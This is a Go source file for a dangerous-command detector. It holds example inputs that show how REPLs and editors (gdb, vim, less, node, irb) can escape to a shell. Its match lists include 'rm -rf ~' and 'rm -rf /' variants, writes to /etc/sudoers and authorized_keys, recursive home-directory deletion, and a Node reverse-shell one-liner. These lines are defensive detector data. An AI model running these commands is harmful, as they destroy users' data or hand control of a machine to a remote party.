package danger

func node(in ...string) []example { return examples(Node, in) }
func irb(in ...string) []example  { return examples(Ruby, in) }
func gdb(in ...string) []example  { return examples(Debugger, in) }
func vim(in ...string) []example  { return examples(Editor, in) }
func less(in ...string) []example { return examples(Pager, in) }

func init() {
	rules = append(rules, langRules...)
	for _, x := range langExamples {
		for i := range rules {
			if rules[i].id == x.id {
				rules[i].match = append(rules[i].match, x.match...)
				rules[i].near = append(rules[i].near, x.near...)
			}
		}
	}
}

// langExamples add examples to rules of other tables: the REPLs' shell
// escapes are judged by the shell rules, and so are named by them.
var langExamples = []struct {
	id          string
	match, near []example
}{
	{"rm-recursive-force", join(gdb("shell rm -rf ~", "!rm -rf /", "pipe info registers | rm -rf ~", `call (int)system("rm -rf /")`),
		vim(":!rm -rf ~", ":silent !rm -rf /", ":r !rm -rf ~", ":%!rm -rf ~"),
		less("!rm -rf ~", "|a rm -rf /"), node("require('child_process').execSync('rm -rf ~')", "spawn('sh', ['-c', 'rm -rf /'])"),
		irb("system('rm -rf ~')", "`rm -rf /`", "%x(rm -rf ~)", "IO.popen(['rm', '-rf', '/']).read")),
		join(gdb("shell ls", "!make", "print system", "break main", "pipe bt | grep foo", "run --rm -rf"),
			vim(":w !sudo tee %", ":!make", ":r !date", ":w", ":wq", ":w ~/notes.txt", "dd", ":s/rm -rf \\//x/"),
			less("!ls", "/rm -rf", "|a wc -l", "q"), node("console.log('rm -rf /')", "execSync('ls -la')", "const rm = require('fs').rm"),
			irb("puts 'rm -rf /'", "system('ls')", "`date`", "x = 'rm -rf /'"))},
	{"write-system-file", vim(":w !sudo tee /etc/passwd", ":w! /etc/sudoers"), vim(":w !sudo tee %", ":w /tmp/x")},
	{"write-authorized-keys", vim(":w! ~/.ssh/authorized_keys"), vim(":w ~/.ssh/config.bak")},
}

// langRules: SQL, Python and the other REPLs (node, irb, gdb, vim, less).
var langRules = []rule{
	{"repl-delete-tree", catDelete,
		"This recursively deletes a directory tree that holds work or data (not scratch space such as build or tmp).",
		join(node("require('fs').rmSync(require('os').homedir(), { recursive: true, force: true })", "fs.rmSync('/srv/data', {recursive: true})",
			"fs.rm(process.cwd(), { recursive: true }, cb)"), sh(`node -e "require('fs').rmSync(process.env.HOME + '/code', {recursive: true})"`),
			irb("FileUtils.rm_rf(Dir.home + '/Documents')", "FileUtils.rm_r('/var/lib/app')", "Dir.glob(File.expand_path('~/src/*')).each { |d| FileUtils.remove_dir(d) }")),
		join(node("fs.rmSync('dist', { recursive: true, force: true })", "fs.rmSync('/srv/data/x.txt')", "fs.rmSync(path.join(os.tmpdir(), 'x'), {recursive: true})"),
			irb("FileUtils.rm_rf('tmp/cache')", "FileUtils.rm_rf('/tmp/build-1')", "File.delete('out.txt')"))},
	{"repl-reverse-shell", catRemote,
		"This connects a shell to a network socket, giving whoever is at the other end control of this machine.",
		node("const n=require('net'),c=require('child_process'),s=new n.Socket();s.connect(4444,'192.0.2.1',()=>{const p=c.spawn('/bin/sh',[]);s.pipe(p.stdin)})",
			"net.connect(9001, 'h', () => { const p = spawn('bash', ['-i']) })"),
		node("const s = net.createServer(); s.listen(8080)", "spawn('ls', ['-la'])")},
}
